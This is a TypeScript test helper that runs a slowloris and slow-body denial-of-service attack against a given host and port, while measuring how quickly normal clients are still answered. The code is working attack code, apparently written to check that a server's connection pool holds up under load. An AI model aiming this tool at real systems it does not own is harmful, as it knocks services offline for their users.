// A slowloris and slow-body attack with normal clients measured alongside,
// over real TCP to any host:port (not a suite itself): test/pool.node.test.ts
// points it at the simulator, and a Moddable build can be pointed at too.
//
//   const r = await abuse("127.0.0.1", port, { attackers: 80 });
//   r.answered === r.clients && r.worst_ms <= 2000
//
// The attackers: half send a request head and then one header byte per
// drip_ms, never ending it; half send a whole head with Content-Length 1500
// and then one body byte per drip_ms. Their ticks are spread evenly over
// drip_ms; one whose connection was closed (evicted, refused, 408)
// reconnects at its next tick, as slowloris does. After ramp_ms, a normal
// client every client_every_ms: a new connection, one request (taken in turn
// from `requests`), and the time until its whole answer (Content-Length
// framing) arrived; answer_ms later it counts as unanswered. Everything is
// bounded: the function ends ramp_ms + measure_ms + answer_ms after it began
// and destroys every socket it made. Node only (node:net).
import * as net from "node:net";

export interface AbuseOptions {
  /** Attacking connections at once (the target: 10x the pool). */
  attackers: number;
  /** One byte per attacker every drip_ms. */
  drip_ms?: number;
  /** Attack alone this long before normal clients start. */
  ramp_ms?: number;
  /** Normal clients start during this long. */
  measure_ms?: number;
  /** A normal client every this many ms. */
  client_every_ms?: number;
  /** A normal client's deadline (the target). */
  answer_ms?: number;
  /** The normal clients' requests, in turn. */
  requests?: string[];
  /** The attackers' request target (a path the server answers). */
  path?: string;
}

export interface AbuseResult {
  clients: number;
  /** Clients answered (2xx or 3xx, whole body) within answer_ms. */
  answered: number;
  worst_ms: number;
  median_ms: number;
  /** What went wrong for the clients that were not answered in time (first few). */
  failures: string[];
  attacker_connects: number;
  /** Attackers whose connection the server closed. */
  attacker_closes: number;
}

class Attacker {
  sock: net.Socket | null = null;
  live = false;
  sent = 0;
  constructor(readonly body: boolean) {}
}

/** Runs the attack against host:port and measures normal clients meanwhile. */
export async function abuse(host: string, port: number, o: AbuseOptions): Promise<AbuseResult> {
  const drip_ms = o.drip_ms ?? 1000;
  const ramp_ms = o.ramp_ms ?? 2000;
  const measure_ms = o.measure_ms ?? 6000;
  const every = o.client_every_ms ?? 100;
  const answer_ms = o.answer_ms ?? 2000;
  const requests = o.requests ?? [`GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`];
  const path = o.path ?? "/";
  const head = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: loris\r\n`;
  const body_head = `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/octet-stream\r\nContent-Length: 1500\r\n\r\n`;
  const res: AbuseResult = { clients: 0, answered: 0, worst_ms: 0, median_ms: 0, failures: [], attacker_connects: 0, attacker_closes: 0 };
  const sockets = new Set<net.Socket>();
  const times: number[] = [];
  const STEP = 10;
  const slots = Math.max(1, Math.round(drip_ms / STEP));
  const at: Attacker[][] = [];
  for (let i = 0; i < slots; i++) at.push([]);
  for (let i = 0; i < o.attackers; i++) at[Math.floor((i * slots) / o.attackers)].push(new Attacker(i % 2 === 1));

  function connect_attacker(a: Attacker): void {
    const s = net.connect({ host, port });
    sockets.add(s);
    a.sock = s;
    a.live = true;
    a.sent = 0;
    res.attacker_connects++;
    s.on("error", () => {});
    s.on("data", () => {}); // an answer (408, 413...) is read and ignored
    s.on("close", () => {
      sockets.delete(s);
      if (a.sock === s) {
        a.live = false;
        res.attacker_closes++;
      }
    });
    s.write(a.body ? body_head : head);
  }

  function tick(k: number): void {
    for (const a of at[k % slots]) {
      if (!a.live) connect_attacker(a);
      else if (a.sock !== null && a.sock.writable) {
        a.sock.write(a.body ? "b" : a.sent % 20 === 19 ? "\n" : "a"); // a head never ends, a body never completes
        a.sent++;
      }
    }
  }

  function client(n: number): Promise<void> {
    return new Promise((done) => {
      const t0 = Date.now();
      let got = Buffer.alloc(0);
      let settled = false;
      const s = net.connect({ host, port });
      sockets.add(s);
      const finish = (why: string | null) => {
        if (settled) return;
        settled = true;
        clearTimeout(timer);
        const ms = Date.now() - t0;
        if (why === null) {
          res.answered++;
          times.push(ms);
        } else {
          times.push(Infinity);
          if (res.failures.length < 8) res.failures.push(`client ${n}: ${why} after ${ms} ms`);
        }
        s.destroy();
        sockets.delete(s);
        done();
      };
      const timer = setTimeout(() => finish(`no whole answer (${got.length} bytes)`), answer_ms);
      s.on("error", (e) => finish("error " + (e as NodeJS.ErrnoException).code));
      s.on("close", () => finish(`closed after ${got.length} bytes`));
      s.on("connect", () => s.write(requests[n % requests.length]));
      s.on("data", (d) => {
        got = Buffer.concat([got, d]);
        if (answer_complete(got)) finish(null);
      });
    });
  }

  const t_start = Date.now();
  let k = 0;
  const pending: Promise<void>[] = [];
  await new Promise<void>((stop) => {
    let next_client = t_start + ramp_ms;
    const iv = setInterval(() => {
      const now = Date.now();
      // catch up on ticks a busy event loop delayed, so every attacker drips on time
      while (t_start + k * STEP <= now) tick(k++);
      while (next_client <= now && next_client < t_start + ramp_ms + measure_ms) {
        pending.push(client(res.clients++));
        next_client += every;
      }
      if (now >= t_start + ramp_ms + measure_ms) {
        clearInterval(iv);
        stop();
      }
    }, STEP);
  });
  await Promise.all(pending);
  for (const s of sockets) s.destroy();
  sockets.clear();
  times.sort((a, b) => a - b);
  res.worst_ms = times.length > 0 ? times[times.length - 1] : 0;
  res.median_ms = times.length > 0 ? times[times.length >> 1] : 0;
  return res;
}

/** A whole successful response (2xx, 3xx): its head and Content-Length bytes of body. */
function answer_complete(b: Buffer): boolean {
  const end = b.indexOf("\r\n\r\n");
  if (end < 0) return false;
  const head = b.subarray(0, end).toString("latin1");
  const status = Number(head.slice(9, 12));
  const m = /\r\ncontent-length:\s*(\d+)/i.exec(head);
  return status >= 200 && status < 400 && m !== null && b.length >= end + 4 + Number(m[1]);
}
